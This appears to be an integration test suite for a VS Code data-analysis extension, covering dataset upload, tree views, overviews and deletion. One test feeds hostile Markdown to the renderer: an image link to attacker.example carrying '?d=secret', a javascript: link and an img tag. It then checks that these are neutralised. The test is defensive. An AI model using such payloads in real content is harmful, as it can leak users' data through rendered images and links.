import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import * as vscode from 'vscode';
import { activeEditorFile } from '../../src/commands/activeFile';
import type { AnalyzeResult } from '../../src/commands/analyzeFile';
import { overviewMarkdown } from '../../src/chat/opener';
import type { DatasetNode, DataSourceNode } from '../../src/views/nodes';
import { engineClient, extensionApi, salesCsv, waitFor, workspaceDir, writeCsv } from './support';

/** The datasets the tree shows now (loading its first page if a refresh emptied it). */
async function shownDatasets() {
  const api = await extensionApi();
  await api.datasets.getChildren();
  return api.datasets.datasets;
}

describe('Analyze this File and the Datasets tree, against the local engine', function () {
  this.timeout(120_000);

  it('starts the local engine on first need and says so in the status bar', async () => {
    const api = await extensionApi();
    const state = await api.connection.check();
    assert.equal(state.kind, 'local');
    assert.equal(state.status, 'ok');
    assert.ok(api.engine.pid, 'the engine runs as a child process');
    assert.match(api.statusBar.text, /Local engine/);
  });

  it('uploads a CSV into a new dataset, waits for the sync, and the engine holds it synched', async () => {
    const file = salesCsv();
    const result = await vscode.commands.executeCommand<AnalyzeResult>('dataAnalysis.analyzeFile', {
      files: [file], datasetName: 'Sales (analyze test)', openChat: false,
    });
    assert.ok(result, 'the command returns what it did');
    assert.equal(result.dataSources.length, 1);
    assert.equal(result.dataSources[0].status, 'synched');
    const { client } = await engineClient();
    const datasets = await client.listDatasets({ search: 'Sales (analyze test)' });
    assert.equal(datasets.records.length, 1);
    assert.equal(datasets.records[0].id, result.datasetId);
    const sources = await client.listDataSources(result.datasetId);
    assert.deepEqual(sources.records.map((s) => [s.name, s.status, s.size]), [['sales.csv', 'synched', fs.statSync(file.fsPath).size]]);
  });

  it('lists in the tree exactly what the engine holds, with the status summary and per-source status', async () => {
    const api = await extensionApi();
    const { client } = await engineClient();
    api.datasets.refresh();
    const roots = await api.datasets.getChildren();
    const shown = roots.filter((n): n is DatasetNode => n.kind === 'dataset').map((n) => n.dataset.id);
    const held: string[] = [];
    for await (const page of client.datasetPages({ page_size: 100 })) held.push(...page.records.map((d) => d.id));
    assert.deepEqual(shown, held, 'same datasets, same order (newest first)');
    const node = roots.find((n): n is DatasetNode => n.kind === 'dataset' && n.dataset.name === 'Sales (analyze test)')!;
    const item = api.datasets.getTreeItem(node);
    assert.equal(item.description, '1 synched');
    const children = (await api.datasets.getChildren(node)) as DataSourceNode[];
    assert.deepEqual(children.map((c) => c.dataSource.name), ['sales.csv']);
    const childItem = api.datasets.getTreeItem(children[0]);
    assert.equal(childItem.contextValue, 'dataSource.synched');
    assert.equal((childItem.iconPath as vscode.ThemeIcon).id, 'pass-filled');
  });

  it('does not upload the same file (name and size) twice into a dataset unless told to', async () => {
    const node = (await shownDatasets()).find((d) => d.name === 'Sales (analyze test)')!;
    const skipped = await vscode.commands.executeCommand<AnalyzeResult>('dataAnalysis.analyzeFile', {
      files: [salesCsv()], datasetId: node.id, uploadDuplicates: false, openChat: false,
    });
    assert.deepEqual(skipped.skipped.map((s) => s.file), ['sales.csv']);
    assert.equal(skipped.dataSources.length, 0);
    const again = await vscode.commands.executeCommand<AnalyzeResult>('dataAnalysis.analyzeFile', {
      files: [salesCsv()], datasetId: node.id, uploadDuplicates: true, openChat: false,
    });
    assert.equal(again.dataSources.length, 1);
    const { client } = await engineClient();
    assert.equal((await client.listDataSources(node.id)).total_items, 2);
  });

  it('saves an edited file first when asked, so the saved content is what is uploaded', async () => {
    const file = writeCsv('edited.csv', 20);
    const document = await vscode.workspace.openTextDocument(file);
    const editor = await vscode.window.showTextDocument(document);
    await editor.edit((edit) => edit.insert(new vscode.Position(document.lineCount - 1, 0), '2024-12-31,North,P9,1,1.5\n'));
    assert.ok(document.isDirty);
    const result = await vscode.commands.executeCommand<AnalyzeResult>('dataAnalysis.analyzeFile', {
      files: [file], datasetName: 'Edited (analyze test)', saveFirst: true, openChat: false,
    });
    assert.equal(document.isDirty, false);
    const size = fs.statSync(file.fsPath).size;
    assert.equal(result.dataSources[0].size, size);
    assert.equal(result.dataSources[0].status, 'synched');
    await vscode.commands.executeCommand('workbench.action.closeActiveEditor');
  });

  it('from the Command Palette, takes the file of the active tab, also a workbook that opens in no text editor', async () => {
    const workbook = vscode.Uri.file(path.join(workspaceDir(), 'customers.xlsx'));
    await vscode.commands.executeCommand('vscode.open', workbook);
    await waitFor('the workbook tab', () => (vscode.window.tabGroups.activeTabGroup.activeTab?.label === 'customers.xlsx' ? true : undefined));
    assert.equal(vscode.window.activeTextEditor, undefined, 'a workbook has no text editor');
    assert.equal(activeEditorFile()?.fsPath, workbook.fsPath);
    const csv = salesCsv();
    await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(csv));
    assert.equal(activeEditorFile()?.fsPath, csv.fsPath);
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  });

  it('reads a workspace CSV in place (a change is read again before the next answer) and copies a file from outside the workspace', async () => {
    const inside = writeCsv('in-place.csv', 40, workspaceDir());
    const outside = writeCsv('copied.csv', 40);
    const { client } = await engineClient();
    const ask = async (datasetId: string) => {
      const session = await client.createSession({ name: 'in place' });
      return client.createJob({ session_id: session.id, dataset_id: datasetId, question: 'total revenue by region' });
    };
    try {
      const results: AnalyzeResult[] = [];
      for (const file of [inside, outside]) {
        const result = await vscode.commands.executeCommand<AnalyzeResult>('dataAnalysis.analyzeFile', { files: [file], datasetName: path.basename(file.fsPath), openChat: false });
        assert.equal(result.dataSources[0].status, 'synched');
        results.push(result);
        fs.appendFileSync(file.fsPath, '2024-12-31,North,P9,1,1.5\n');
      }
      // The file read in place changed: the engine says so and reads it again.
      await assert.rejects(ask(results[0].datasetId), /in-place\.csv changed on disk since it was read/);
      await client.waitForSync(results[0].datasetId, results[0].dataSources[0].id, { intervalMs: 50 });
      await ask(results[0].datasetId);
      // The copy does not see the change, and answers.
      await ask(results[1].datasetId);
    } finally {
      fs.rmSync(inside.fsPath, { force: true });
    }
  });

  it('refuses kinds the service does not take, and kinds the local engine cannot read, before uploading', async () => {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'da-kinds-'));
    fs.writeFileSync(path.join(folder, 'notes.xyz'), 'x');
    fs.writeFileSync(path.join(folder, 'slides.pdf'), '%PDF-1.4');
    const before = (await (await engineClient()).client.listDatasets({ page_size: 100 })).total_items;
    const result = await vscode.commands.executeCommand<AnalyzeResult | undefined>('dataAnalysis.analyzeFile', {
      files: [vscode.Uri.file(path.join(folder, 'notes.xyz')), vscode.Uri.file(path.join(folder, 'slides.pdf'))], datasetName: 'never', openChat: false,
    });
    assert.equal(result, undefined);
    const after = (await (await engineClient()).client.listDatasets({ page_size: 100 })).total_items;
    assert.equal(after, before, 'no dataset was created');
  });

  it('shows the dataset overview (summary, keywords, questions) as a read-only Markdown document', async () => {
    const api = await extensionApi();
    const dataset = (await shownDatasets()).find((d) => d.name === 'Sales (analyze test)')!;
    await vscode.commands.executeCommand('dataAnalysis.showOverview', api.datasets.nodeFor(dataset.id));
    const [uri, text] = await waitFor('the overview document', () => [...api.overview.openDocuments].find(([u]) => u.includes('dataset')));
    assert.match(uri, /^data-analysis-overview:/);
    const { client } = await engineClient();
    const overview = await client.getDatasetOverview(dataset.id);
    assert.match(text, /^# Sales \(analyze test\)/);
    assert.ok(text.includes('## Summary'));
    for (const question of overview.exploration_questions.slice(0, 2)) assert.ok(text.includes(question.slice(0, 10)), `question "${question}" shown`);
  });

  it('neutralises images, links and HTML that a summary quotes from the data', async () => {
    const hostile = [
      'Most common `link`: ![logo](https://attacker.example/pixel.png?d=secret)',
      'See [the docs](javascript:alert(1)) and <img src="https://attacker.example/x.png">',
      '[ref]: https://attacker.example/ref',
      'Kept: **bold**, a list and `code [with] brackets`.',
    ].join('\n\n');
    const markdown = overviewMarkdown({ id: 'd', name: 'Hostile', description: '', summary: hostile, exploration_questions: [], keywords: [] });
    const html = await vscode.commands.executeCommand<string>('markdown.api.render', markdown);
    assert.doesNotMatch(html, /<img/i, html);
    assert.doesNotMatch(html, /href="javascript:/i, html);
    assert.doesNotMatch(html, /<a [^>]*>the docs<\/a>/, 'Markdown link syntax is shown as text');
    assert.match(html, /<strong>bold<\/strong>/);
    assert.match(html, /<code>code \[with\] brackets<\/code>/);
  });

  it('renames and describes, opens and removes a data source, copies its id, and deletes a dataset', async () => {
    const api = await extensionApi();
    const { client } = await engineClient();
    const dataset = (await shownDatasets()).find((d) => d.name === 'Sales (analyze test)')!;
    const node = api.datasets.nodeFor(dataset.id)!;
    assert.equal(await vscode.commands.executeCommand('dataAnalysis.editDataset', node, { name: 'Sales renamed', description: 'Monthly sales by region' }), true);
    const renamed = (await client.listDatasets({ search: 'Sales renamed' })).records[0];
    assert.equal(renamed.description, 'Monthly sales by region');

    await api.datasets.getChildren();
    const renamedNode = api.datasets.nodeFor(dataset.id)!;
    const sources = (await api.datasets.getChildren(renamedNode)) as DataSourceNode[];
    assert.equal(sources.length, 2);
    const opened = await vscode.commands.executeCommand<vscode.Uri>('dataAnalysis.openDataSource', sources[0]);
    assert.equal(fs.readFileSync(opened.fsPath, 'utf8'), fs.readFileSync(salesCsv().fsPath, 'utf8'));
    await vscode.commands.executeCommand('workbench.action.closeActiveEditor');

    await vscode.commands.executeCommand('dataAnalysis.copyDataSourceId', sources[0]);
    assert.equal(await vscode.env.clipboard.readText(), sources[0].dataSource.id);

    assert.equal(await vscode.commands.executeCommand('dataAnalysis.deleteDataSource', sources[1], { confirmed: true }), true);
    assert.deepEqual((await client.listDataSources(dataset.id)).records.map((s) => s.id), [sources[0].dataSource.id]);

    assert.equal(await vscode.commands.executeCommand('dataAnalysis.deleteDataset', renamedNode, { confirmed: true }), true);
    assert.equal((await client.listDatasets({ search: 'Sales renamed' })).total_items, 0);
  });
});
